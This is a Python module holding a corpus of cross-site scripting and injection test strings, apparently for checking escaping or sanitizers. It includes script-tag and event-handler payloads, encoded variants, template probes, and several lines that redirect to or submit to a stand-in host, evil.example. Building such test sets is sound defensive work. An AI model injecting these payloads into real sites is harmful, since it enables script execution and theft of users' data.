"""Texts that run something where they are not escaped, or break out of where they are put."""

from __future__ import annotations

CORPUS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</style><style>@import'//evil.example/x'</style>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "{{7*7}}${7*7}{0}{body}%s",
    "\u2028\u2029<script>alert(1)</script>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "</option></select><script>alert(1)</script>",
    "\u202etxt.exe<b>\u2066",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)",
)
